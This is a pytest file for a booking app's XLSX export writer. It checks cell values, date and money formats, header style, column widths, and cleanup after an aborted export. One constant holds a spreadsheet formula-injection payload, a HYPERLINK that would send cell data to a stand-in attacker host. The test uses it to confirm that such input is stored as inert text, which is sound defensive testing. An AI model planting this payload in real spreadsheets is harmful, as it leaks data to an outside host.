"""The streamed XLSX of a big table reads back in openpyxl with the values, types, number
formats, header style, frozen row and widths the report workbook uses; text never runs."""

from __future__ import annotations

import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from careops_desktop.core.services.reports.model import Column
from careops_desktop.exports.xlsx_writer import write_table_xlsx

COLUMNS = (
    Column("id", "Booking", "int"),
    Column("start", "Start", "datetime"),
    Column("day", "Day", "date"),
    Column("name", "Customer"),
    Column("price", "Price", "money"),
    Column("rate", "Rate", "percent"),
    Column("other", "Other"),
)
LONDON = ZoneInfo("Europe/London")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows() -> list[tuple]:
    return [
        (
            1,
            datetime(2025, 3, 30, 2, 30, 15, tzinfo=LONDON),
            date(2025, 3, 30),
            "Ann",
            4550,
            0.25,
            None,
        ),
        (
            2,
            datetime(2025, 10, 26, 1, 30, fold=1, tzinfo=LONDON),
            date(1900, 1, 5),
            HOSTILE,
            -1999,
            None,
            True,
        ),
        (3, None, None, "  spaced & <tagged>\r\nline\x07", None, 1.0, time(13, 45)),
        (4_000_000, datetime(1900, 2, 10, 6), date(2025, 1, 1), "", 0, 0.5, Decimal("2.50")),
        (5, datetime(2025, 1, 1, tzinfo=UTC), date(2025, 1, 1), "+44 7700", 1, float("nan"), 3.25),
    ]


def test_values_types_and_formats_read_back(tmp_path: Path) -> None:
    path = tmp_path / "table.xlsx"
    assert write_table_xlsx(path, COLUMNS, _rows(), title="Bookings: all/2025", currency="EUR") == 5
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Bookings  all 2025"]
    sheet = book.active
    assert sheet is not None and sheet.freeze_panes == "A2" and sheet.max_row == 6
    header = [c.value for c in sheet[1]]
    assert header == [c.title for c in COLUMNS]
    for cell in sheet[1]:
        assert cell.font.b and cell.font.color.rgb == "00FFFFFF"
        assert cell.fill.fgColor.rgb == "002563EB" and cell.fill.fill_type == "solid"
    first = [c.value for c in sheet[2]]
    assert first == [
        1,
        datetime(2025, 3, 30, 2, 30, 15),
        datetime(2025, 3, 30),
        "Ann",
        45.5,
        0.25,
        None,
    ]
    formats = [c.number_format for c in sheet[2]]
    assert formats[:3] == ["#,##0", "d mmm yyyy hh:mm", "d mmm yyyy"]  # as en_GB writes dates
    assert formats[4] == '"€"#,##0.00;-"€"#,##0.00' and formats[5] == "0.0%"
    second = sheet[3]
    assert second[1].value == datetime(2025, 10, 26, 1, 30)  # local wall time of the fold
    assert second[2].value == datetime(1900, 1, 5)  # Excel's 1900 quirk handled as openpyxl does
    assert second[3].value == HOSTILE and second[3].data_type == "s"  # text, not a formula
    assert second[4].value == -19.99 and second[6].value is True
    third = sheet[4]
    assert third[1].value is None and third[2].value is None and third[4].value is None
    assert third[3].value == "  spaced & <tagged>\r\nline"  # illegal \x07 dropped, \r kept
    assert third[6].value == time(13, 45) and third[6].number_format == "h:mm:ss"
    fourth = sheet[5]
    assert fourth[0].value == 4_000_000 and fourth[1].value == datetime(1900, 2, 10, 6)
    assert fourth[3].value is None and fourth[4].value == 0 and fourth[6].value == 2.5
    fifth = sheet[6]
    assert fifth[3].value == "+44 7700" and fifth[5].value is None  # NaN is left blank
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFG"]
    assert widths[0] == 14 and widths[3] == len(HOSTILE) + 2 and widths[2] == 14
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "&amp;" in sheet_xml and "&lt;tagged&gt;" in sheet_xml


def test_a_stopped_export_leaves_no_file(tmp_path: Path) -> None:
    class Stop(Exception):
        pass

    def stop(done: int) -> None:
        raise Stop

    path = tmp_path / "stopped.xlsx"
    rows = ((n, None, None, f"Customer {n}", n, 0.1, None) for n in range(12_000))
    with pytest.raises(Stop):
        write_table_xlsx(path, COLUMNS, rows, progress=stop)
    assert not path.exists() and list(tmp_path.iterdir()) == []
    seen: list[int] = []
    rows = ((n, None, None, f"Customer {n}", n, 0.1, None) for n in range(12_000))
    assert write_table_xlsx(path, COLUMNS, rows, progress=seen.append) == 12_000
    assert seen == [5_000, 10_000]
    with pytest.raises(ValueError, match="values for 7 columns"):
        write_table_xlsx(tmp_path / "bad.xlsx", COLUMNS, [(1, 2)])
    assert not (tmp_path / "bad.xlsx").exists()
